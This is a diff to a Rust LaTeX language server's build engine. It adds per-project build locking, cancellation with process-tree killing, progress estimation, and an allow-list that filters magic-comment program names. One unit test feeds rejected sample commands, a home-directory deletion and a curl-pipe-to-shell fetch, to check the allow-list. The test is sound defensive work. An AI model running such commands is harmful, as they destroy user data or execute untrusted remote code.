@@ -1,26 +1,37 @@
 use std::{
     io::{BufRead, BufReader, Read},
     path::Path,
-    process::{Command, Stdio},
-    sync::{Arc, Mutex},
+    process::{Child, Command, Stdio},
+    sync::{
+        atomic::{AtomicBool, Ordering},
+        Arc, Mutex,
+    },
     thread::{self, JoinHandle},
+    time::Duration,
 };
 
 use anyhow::Result;
-use crossbeam_channel::{Receiver, Sender};
+use crossbeam_channel::Sender;
 use dashmap::DashMap;
 use encoding_rs_io::DecodeReaderBytesBuilder;
+use log::warn;
+use lsp_server::RequestId;
 use lsp_types::{
-    notification::{LogMessage, Progress},
-    LogMessageParams, NumberOrString, Position, ProgressParams, ProgressParamsValue,
-    TextDocumentIdentifier, TextDocumentPositionParams, Url, WorkDoneProgress,
-    WorkDoneProgressBegin, WorkDoneProgressCreateParams, WorkDoneProgressEnd,
+    notification::LogMessage, LogMessageParams, NumberOrString, Position, TextDocumentIdentifier,
+    TextDocumentPositionParams, Url,
 };
+use once_cell::sync::Lazy;
+use regex::Regex;
 use serde::{Deserialize, Serialize};
 use serde_repr::{Deserialize_repr, Serialize_repr};
 use uuid::Uuid;
 
-use crate::{client, req_queue::ReqQueue, ClientCapabilitiesExt, DocumentLanguage};
+use crate::{
+    client::{self, ProgressReporter},
+    req_queue::ReqQueue,
+    syntax::latex::MagicComments,
+    BuildOptions, ClientCapabilitiesExt, Document, DocumentLanguage,
+};
 
 use super::{forward_search, FeatureRequest};
 
@@ -45,83 +56,108 @@ pub struct BuildResult {
     pub status: BuildStatus,
 }
 
-struct ProgressReporter<'a> {
-    supports_progress: bool,
-    req_queue: &'a Mutex<ReqQueue>,
-    lsp_sender: Sender<lsp_server::Message>,
-    token: &'a str,
+/// The number of TeX passes and pages of the last build of a document.
+/// It is used to estimate the progress of the next build.
+#[derive(Debug, PartialEq, Eq, Clone, Copy, Default)]
+struct BuildStatistics {
+    passes: u32,
+    pages: u32,
 }
 
-impl<'a> ProgressReporter<'a> {
-    pub fn start(&self, uri: &Url) -> Result<()> {
-        if self.supports_progress {
-            client::send_request::<lsp_types::request::WorkDoneProgressCreate>(
-                self.req_queue,
-                &self.lsp_sender,
-                WorkDoneProgressCreateParams {
-                    token: NumberOrString::String(self.token.to_string()),
-                },
-            )?;
-            client::send_notification::<Progress>(
-                &self.lsp_sender,
-                ProgressParams {
-                    token: NumberOrString::String(self.token.to_string()),
-                    value: ProgressParamsValue::WorkDone(WorkDoneProgress::Begin(
-                        WorkDoneProgressBegin {
-                            title: "Building".to_string(),
-                            message: Some(uri.as_str().to_string()),
-                            cancellable: Some(false),
-                            percentage: None,
-                        },
-                    )),
-                },
-            )?;
-        };
-        Ok(())
-    }
+#[derive(Debug, Default)]
+struct ProgressTracker {
+    expected: Option<BuildStatistics>,
+    current: BuildStatistics,
+    page: u32,
+    percentage: u32,
 }
 
-impl<'a> Drop for ProgressReporter<'a> {
-    fn drop(&mut self) {
-        if self.supports_progress {
-            drop(client::send_notification::<Progress>(
-                &self.lsp_sender,
-                ProgressParams {
-                    token: NumberOrString::String(self.token.to_string()),
-                    value: ProgressParamsValue::WorkDone(WorkDoneProgress::End(
-                        WorkDoneProgressEnd { message: None },
-                    )),
-                },
-            ));
+impl ProgressTracker {
+    /// Updates the progress using a line of the build output.
+    /// Returns the new progress message and percentage if the line starts a new pass or page.
+    fn update(&mut self, line: &str) -> Option<(String, Option<u32>)> {
+        if TEX_BANNER_REGEX.is_match(line) {
+            self.current.passes += 1;
+            self.page = 0;
+        } else if let Some(page) = SHIPOUT_REGEX
+            .captures_iter(line)
+            .filter_map(|captures| captures[1].parse::<u32>().ok())
+            .last()
+        {
+            self.page = page;
+            self.current.pages = self.current.pages.max(page);
+        } else {
+            return None;
         }
+
+        let message = if self.page == 0 {
+            format!("Pass {}", self.current.passes)
+        } else {
+            format!("Pass {}, page {}", self.current.passes, self.page)
+        };
+
+        let percentage = self
+            .expected
+            .filter(|expected| expected.passes > 0 && expected.pages > 0)
+            .map(|expected| {
+                let total = expected.passes * expected.pages;
+                let done = (self.current.passes.max(1) - 1) * expected.pages + self.page;
+                self.percentage = self.percentage.max((done * 100 / total).min(99));
+                self.percentage
+            });
+
+        Some((message, percentage))
     }
 }
 
+static TEX_BANNER_REGEX: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"^This is (pdf|Xe|LuaHB|Lua|e-|ep|up|)TeX, Version").unwrap());
+
+static SHIPOUT_REGEX: Lazy<Regex> = Lazy::new(|| Regex::new(r"\[(\d+)(\]|\{|<|\s|$)").unwrap());
+
+/// A build that is either waiting for the lock of its root document or running.
+#[derive(Debug)]
+struct BuildHandle {
+    request_id: Option<RequestId>,
+    cancelled: AtomicBool,
+}
+
 #[derive(Default)]
 pub struct BuildEngine {
-    lock: Mutex<()>,
+    locks_by_root: DashMap<Arc<Url>, Arc<Mutex<()>>>,
+    queued_roots: DashMap<Arc<Url>, ()>,
+    handles_by_token: DashMap<String, Arc<BuildHandle>>,
+    statistics_by_root: DashMap<Arc<Url>, BuildStatistics>,
     pub positions_by_uri: DashMap<Arc<Url>, Position>,
 }
 
 impl BuildEngine {
+    /// Builds the root document of the given request.
+    /// Builds of the same project run one after another while independent projects build in parallel.
+    /// Builds without a request ID (for example, after saving a document) are dropped
+    /// if another build without a request ID is already waiting for the same project.
     pub fn build(
         &self,
         request: FeatureRequest<BuildParams>,
+        request_id: Option<RequestId>,
         req_queue: &Mutex<ReqQueue>,
         lsp_sender: &Sender<lsp_server::Message>,
     ) -> Result<BuildResult> {
-        let lock = self.lock.lock().unwrap();
-
-        let document = request
-            .workspace
-            .documents_by_uri
-            .values()
-            .find(|document| {
-                if let Some(data) = document.data.as_latex() {
-                    data.extras.has_document_environment
-                } else {
-                    false
-                }
+        let declared_root = request.workspace.find_declared_root(&request.uri);
+        let document = declared_root
+            .as_ref()
+            .or_else(|| {
+                request
+                    .workspace
+                    .documents_by_uri
+                    .values()
+                    .find(|document| {
+                        if let Some(data) = document.data.as_latex() {
+                            data.extras.has_document_environment
+                        } else {
+                            false
+                        }
+                    })
             })
             .unwrap_or_else(|| request.main_document());
 
@@ -138,107 +174,337 @@ impl BuildEngine {
         }
         let path = document.uri.to_file_path().unwrap();
 
+        let is_coalescable = request_id.is_none();
+        if is_coalescable
+            && self
+                .queued_roots
+                .insert(Arc::clone(&document.uri), ())
+                .is_some()
+        {
+            return Ok(BuildResult {
+                status: BuildStatus::SUCCESS,
+            });
+        }
+
+        let token = format!("texlab-build-{}", Uuid::new_v4());
+        let handle = Arc::new(BuildHandle {
+            request_id,
+            cancelled: AtomicBool::new(false),
+        });
+        self.handles_by_token
+            .insert(token.clone(), Arc::clone(&handle));
+
+        let root_lock = Arc::clone(
+            &self
+                .locks_by_root
+                .entry(Arc::clone(&document.uri))
+                .or_default(),
+        );
+
+        let lock = root_lock.lock().unwrap();
+        if is_coalescable {
+            self.queued_roots.remove(&document.uri);
+        }
+        let result = self.run(
+            &request, document, &path, &token, &handle, req_queue, lsp_sender,
+        );
+        self.handles_by_token.remove(&token);
+        drop(lock);
+
+        let status = result?;
+        if request
+            .workspace
+            .environment
+            .options
+            .build
+            .forward_search_after
+            && status != BuildStatus::CANCELLED
+        {
+            let request = FeatureRequest {
+                params: TextDocumentPositionParams {
+                    position: self
+                        .positions_by_uri
+                        .get(&request.main_document().uri)
+                        .map(|guard| *guard)
+                        .unwrap_or_default(),
+                    text_document: TextDocumentIdentifier::new(request.uri.as_ref().clone()),
+                },
+                uri: request.uri,
+                workspace: request.workspace,
+            };
+            forward_search::execute_forward_search(request);
+        }
+
+        Ok(BuildResult { status })
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn run(
+        &self,
+        request: &FeatureRequest<BuildParams>,
+        document: &Document,
+        path: &Path,
+        token: &str,
+        handle: &BuildHandle,
+        req_queue: &Mutex<ReqQueue>,
+        lsp_sender: &Sender<lsp_server::Message>,
+    ) -> Result<BuildStatus> {
+        if handle.cancelled.load(Ordering::SeqCst) {
+            return Ok(BuildStatus::CANCELLED);
+        }
+
         let supports_progress = request
             .workspace
             .environment
             .client_capabilities
             .has_work_done_progress_support();
 
-        let token = format!("texlab-build-{}", Uuid::new_v4());
         let progress_reporter = ProgressReporter {
             supports_progress,
             req_queue,
             lsp_sender: lsp_sender.clone(),
-            token: &token,
+            token,
+            title: "Building",
+            cancellable: true,
         };
-        progress_reporter.start(&document.uri)?;
+        let expected = self
+            .statistics_by_root
+            .get(&document.uri)
+            .map(|statistics| *statistics);
+
+        progress_reporter.start(Some(document.uri.to_string()), expected.map(|_| 0))?;
 
-        let options = &request.workspace.environment.options;
+        let environment = &request.workspace.environment;
+        let options = &environment.options;
 
         let build_dir = options
             .root_directory
             .as_ref()
-            .map(AsRef::as_ref)
-            .or_else(|| path.parent())
+            .map(|root_dir| environment.current_directory.join(root_dir))
+            .or_else(|| path.parent().map(ToOwned::to_owned))
             .unwrap();
 
-        let args: Vec<_> = options
-            .build
-            .args
-            .iter()
-            .map(|arg| replace_placeholder(arg.clone(), &path))
+        let magic_comments = document
+            .data
+            .as_latex()
+            .map(|data| data.extras.magic_comments.clone())
+            .unwrap_or_default();
+
+        let (executable, args) = build_command(&options.build, &magic_comments);
+        let args: Vec<_> = args
+            .into_iter()
+            .map(|arg| replace_placeholder(arg, path))
             .collect();
 
-        let mut process = Command::new(&options.build.executable)
+        let mut command = Command::new(executable);
+        command
             .args(args)
             .stdin(Stdio::null())
             .stdout(Stdio::piped())
             .stderr(Stdio::piped())
-            .current_dir(build_dir)
-            .spawn()?;
-
-        let (exit_sender, exit_receiver) = crossbeam_channel::bounded(1);
-        let log_handle = capture_output(&mut process, lsp_sender, exit_receiver);
-        let success = process.wait().map(|status| status.success())?;
-        exit_sender.send(())?;
-        drop(exit_sender);
-
-        log_handle.join().unwrap();
-        let status = if success {
-            BuildStatus::SUCCESS
-        } else {
-            BuildStatus::ERROR
+            .current_dir(build_dir);
+
+        let mut process = spawn_process_group(&mut command)?;
+
+        let (log_sender, log_receiver) = crossbeam_channel::unbounded();
+        let output_handles = [
+            track_output(process.stdout.take().unwrap(), log_sender.clone()),
+            track_output(process.stderr.take().unwrap(), log_sender),
+        ];
+
+        let mut tracker = ProgressTracker {
+            expected,
+            ..ProgressTracker::default()
         };
 
-        drop(progress_reporter);
-        drop(lock);
+        let mut handle_line = |line: String| {
+            if let Some((message, percentage)) = tracker.update(&line) {
+                let _ = progress_reporter.report(message, percentage);
+            }
 
-        if options.build.forward_search_after {
-            let request = FeatureRequest {
-                params: TextDocumentPositionParams {
-                    position: self
-                        .positions_by_uri
-                        .get(&request.main_document().uri)
-                        .map(|guard| *guard)
-                        .unwrap_or_default(),
-                    text_document: TextDocumentIdentifier::new(request.uri.as_ref().clone()),
+            let _ = client::send_notification::<LogMessage>(
+                lsp_sender,
+                LogMessageParams {
+                    message: line,
+                    typ: lsp_types::MessageType::LOG,
                 },
-                uri: request.uri,
-                workspace: request.workspace,
+            );
+        };
+
+        let mut output = log_receiver.clone();
+        let status = loop {
+            crossbeam_channel::select! {
+                recv(output) -> line => match line {
+                    Ok(line) => handle_line(line),
+                    Err(_) => output = crossbeam_channel::never(),
+                },
+                default(Duration::from_millis(100)) => {},
             };
-            forward_search::execute_forward_search(request);
+
+            if handle.cancelled.load(Ordering::SeqCst) {
+                kill_process_tree(&mut process);
+                break BuildStatus::CANCELLED;
+            }
+
+            if let Some(status) = process.try_wait()? {
+                break if status.success() {
+                    BuildStatus::SUCCESS
+                } else {
+                    BuildStatus::ERROR
+                };
+            }
+        };
+
+        for handle in output_handles {
+            let _ = handle.join();
         }
 
-        Ok(BuildResult { status })
+        log_receiver.try_iter().for_each(&mut handle_line);
+
+        if status == BuildStatus::SUCCESS && tracker.current.passes > 0 {
+            self.statistics_by_root
+                .insert(Arc::clone(&document.uri), tracker.current);
+        }
+
+        Ok(status)
+    }
+
+    /// Cancels the build that was started by the given request.
+    pub fn cancel_request(&self, request_id: &RequestId) {
+        for handle in self.handles_by_token.iter() {
+            if handle.request_id.as_ref() == Some(request_id) {
+                handle.cancelled.store(true, Ordering::SeqCst);
+            }
+        }
+    }
+
+    /// Cancels the build that reports its progress with the given token.
+    pub fn cancel_progress(&self, token: &NumberOrString) {
+        if let NumberOrString::String(token) = token {
+            if let Some(handle) = self.handles_by_token.get(token) {
+                handle.cancelled.store(true, Ordering::SeqCst);
+            }
+        }
     }
 }
 
-fn capture_output(
-    process: &mut std::process::Child,
-    lsp_sender: &Sender<lsp_server::Message>,
-    exit_receiver: Receiver<()>,
-) -> JoinHandle<()> {
-    let (log_sender, log_receiver) = crossbeam_channel::unbounded();
-    track_output(process.stdout.take().unwrap(), log_sender.clone());
-    track_output(process.stderr.take().unwrap(), log_sender);
-    let lsp_sender = lsp_sender.clone();
-    thread::spawn(move || loop {
-        crossbeam_channel::select! {
-            recv(&log_receiver) -> message => {
-                if let Ok(message) = message {
-                    client::send_notification::<LogMessage>(
-                        &lsp_sender,
-                        LogMessageParams {
-                            message,
-                            typ: lsp_types::MessageType::LOG,
-                        },
-                    )
-                    .unwrap();
-                }
-            },
-            recv(&exit_receiver) -> _ => break,
-        };
-    })
+/// Starts the build process in its own process group, so that a cancellation
+/// can also stop the TeX engines that are started by `latexmk`.
+fn spawn_process_group(command: &mut Command) -> std::io::Result<Child> {
+    #[cfg(unix)]
+    unsafe {
+        use std::os::unix::process::CommandExt;
+        command.pre_exec(|| {
+            if libc::setsid() == -1 {
+                Err(std::io::Error::last_os_error())
+            } else {
+                Ok(())
+            }
+        });
+    }
+
+    command.spawn()
+}
+
+/// Kills the build process and all of its child processes (for example, the TeX engine started by `latexmk`).
+fn kill_process_tree(process: &mut Child) {
+    #[cfg(windows)]
+    let _ = Command::new("taskkill")
+        .args(["/PID", &process.id().to_string(), "/T", "/F"])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status();
+
+    // The build process leads its own process group (see `spawn_process_group`).
+    #[cfg(unix)]
+    unsafe {
+        libc::kill(-(process.id() as libc::pid_t), libc::SIGKILL);
+    }
+
+    let _ = process.kill();
+    let _ = process.wait();
+}
+
+const LATEXMK_OUTPUT_FLAGS: &[&str] = &[
+    "-pdf",
+    "-pdfdvi",
+    "-pdfps",
+    "-pdfxe",
+    "-pdflua",
+    "-xelatex",
+    "-lualatex",
+    "-dvi",
+    "-ps",
+];
+
+/// The engines that can be selected with a `% !TeX program` magic comment.
+/// Other values are ignored because the comment is part of an untrusted document.
+const TEX_PROGRAMS: &[&str] = &["pdflatex", "xelatex", "lualatex", "latex"];
+
+/// The programs that can be selected with a `% !BIB program` magic comment.
+const BIB_PROGRAMS: &[&str] = &["bibtex", "bibtex8", "biber"];
+
+fn allowed_program(program: &str, allowed: &[&'static str]) -> Option<&'static str> {
+    let program = program.to_ascii_lowercase();
+    let result = allowed
+        .iter()
+        .copied()
+        .find(|candidate| *candidate == program);
+
+    if result.is_none() {
+        warn!("Ignoring unknown program in magic comment: {}", program);
+    }
+
+    result
+}
+
+/// Applies the `% !TeX program` and `% !BIB program` magic comments to the configured command.
+/// `latexmk` is instructed to use the given programs, while other executables are replaced
+/// by the TeX program.
+fn build_command(options: &BuildOptions, magic_comments: &MagicComments) -> (String, Vec<String>) {
+    let mut executable = options.executable.clone();
+    let mut args = options.args.clone();
+    let is_latexmk = Path::new(&executable)
+        .file_stem()
+        .map_or(false, |stem| stem == "latexmk");
+
+    if let Some(program) = magic_comments
+        .tex_program
+        .as_deref()
+        .and_then(|program| allowed_program(program, TEX_PROGRAMS))
+    {
+        if is_latexmk {
+            args.retain(|arg| {
+                !LATEXMK_OUTPUT_FLAGS.contains(&arg.as_str()) && !arg.starts_with("-pdflatex=")
+            });
+
+            let flag = match program {
+                "xelatex" => "-xelatex",
+                "lualatex" => "-lualatex",
+                "latex" => "-pdfdvi",
+                _ => "-pdf",
+            };
+            args.insert(0, flag.to_string());
+        } else {
+            executable = program.to_string();
+        }
+    }
+
+    if let Some(program) = magic_comments
+        .bib_program
+        .as_deref()
+        .and_then(|program| allowed_program(program, BIB_PROGRAMS))
+        .filter(|program| *program != "biber")
+    {
+        if is_latexmk {
+            args.splice(
+                0..0,
+                ["-e".to_string(), format!("$bibtex=q/{} %O %S/", program)],
+            );
+        }
+    }
+
+    (executable, args)
 }
 
 fn replace_placeholder(arg: String, file: &Path) -> String {
@@ -259,8 +525,165 @@ fn track_output(output: impl Read + Send + 'static, sender: Sender<String>) -> J
     );
 
     thread::spawn(move || {
-        for line in reader.lines() {
-            sender.send(line.unwrap()).unwrap();
+        // The receiver is dropped without waiting for the output once a build is cancelled.
+        for line in reader.lines().map_while(Result::ok) {
+            if sender.send(line).is_err() {
+                break;
+            }
         }
     })
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn build_options(executable: &str, args: &[&str]) -> BuildOptions {
+        BuildOptions {
+            executable: executable.to_string(),
+            args: args.iter().map(ToString::to_string).collect(),
+            ..BuildOptions::default()
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn kill_process_tree_stops_children() -> Result<()> {
+        let mut process = spawn_process_group(
+            Command::new("sh")
+                .args(["-c", "sleep 30 & echo started; sleep 30"])
+                .stdout(Stdio::piped()),
+        )?;
+
+        let mut stdout = BufReader::new(process.stdout.take().unwrap());
+        stdout.read_line(&mut String::new())?;
+
+        // The pipe is closed once the shell and the backgrounded child are gone.
+        let (sender, receiver) = crossbeam_channel::bounded(1);
+        thread::spawn(move || {
+            let _ = stdout.read_to_end(&mut Vec::new());
+            let _ = sender.send(());
+        });
+
+        kill_process_tree(&mut process);
+        assert!(receiver.recv_timeout(Duration::from_secs(10)).is_ok());
+        Ok(())
+    }
+
+    #[test]
+    fn command_latexmk_program() {
+        let options = build_options("latexmk", &["-pdf", "-interaction=nonstopmode", "%f"]);
+        let magic_comments = MagicComments {
+            tex_program: Some("xelatex".into()),
+            bib_program: Some("bibtex8".into()),
+            ..MagicComments::default()
+        };
+
+        let (executable, args) = build_command(&options, &magic_comments);
+        assert_eq!(executable, "latexmk");
+        assert_eq!(
+            args,
+            vec![
+                "-e",
+                "$bibtex=q/bibtex8 %O %S/",
+                "-xelatex",
+                "-interaction=nonstopmode",
+                "%f"
+            ]
+        );
+    }
+
+    #[test]
+    fn command_other_program() {
+        let options = build_options("pdflatex", &["%f"]);
+        let magic_comments = MagicComments {
+            tex_program: Some("lualatex".into()),
+            ..MagicComments::default()
+        };
+
+        let (executable, args) = build_command(&options, &magic_comments);
+        assert_eq!(executable, "lualatex");
+        assert_eq!(args, vec!["%f"]);
+    }
+
+    #[test]
+    fn command_unknown_program() {
+        let options = build_options("latexmk", &["-pdf", "%f"]);
+        let magic_comments = MagicComments {
+            tex_program: Some("sh -c 'rm -rf ~'".into()),
+            bib_program: Some("curl example.com | sh".into()),
+            ..MagicComments::default()
+        };
+
+        let (executable, args) = build_command(&options, &magic_comments);
+        assert_eq!(executable, "latexmk");
+        assert_eq!(args, vec!["-pdf", "%f"]);
+
+        let options = build_options("pdflatex", &["%f"]);
+        let (executable, _) = build_command(&options, &magic_comments);
+        assert_eq!(executable, "pdflatex");
+    }
+
+    #[test]
+    fn command_without_magic_comments() {
+        let options = build_options("latexmk", &["-pdf", "%f"]);
+        let (executable, args) = build_command(&options, &MagicComments::default());
+        assert_eq!(executable, "latexmk");
+        assert_eq!(args, vec!["-pdf", "%f"]);
+    }
+
+    #[test]
+    fn progress_without_statistics() {
+        let mut tracker = ProgressTracker::default();
+        assert_eq!(tracker.update("Latexmk: applying rule 'pdflatex'..."), None);
+        assert_eq!(
+            tracker.update("This is pdfTeX, Version 3.141592653-2.6-1.40.24 (TeX Live 2022)"),
+            Some(("Pass 1".to_string(), None))
+        );
+        assert_eq!(
+            tracker.update(
+                "[1{/usr/local/texlive/2022/texmf-var/fonts/map/pdftex/updmap/pdftex.map}] [2]"
+            ),
+            Some(("Pass 1, page 2".to_string(), None))
+        );
+        assert_eq!(
+            tracker.current,
+            BuildStatistics {
+                passes: 1,
+                pages: 2
+            }
+        );
+    }
+
+    #[test]
+    fn progress_with_statistics() {
+        let mut tracker = ProgressTracker {
+            expected: Some(BuildStatistics {
+                passes: 2,
+                pages: 4,
+            }),
+            ..ProgressTracker::default()
+        };
+
+        tracker.update("This is LuaHBTeX, Version 1.15.0 (TeX Live 2022)");
+        assert_eq!(
+            tracker.update("[2]"),
+            Some(("Pass 1, page 2".to_string(), Some(25)))
+        );
+
+        tracker.update("This is LuaHBTeX, Version 1.15.0 (TeX Live 2022)");
+        assert_eq!(
+            tracker.update("[4]"),
+            Some(("Pass 2, page 4".to_string(), Some(99)))
+        );
+    }
+
+    #[test]
+    fn progress_ignores_bibtex() {
+        let mut tracker = ProgressTracker::default();
+        assert_eq!(
+            tracker.update("This is BibTeX, Version 0.99d (TeX Live 2022)"),
+            None
+        );
+    }
+}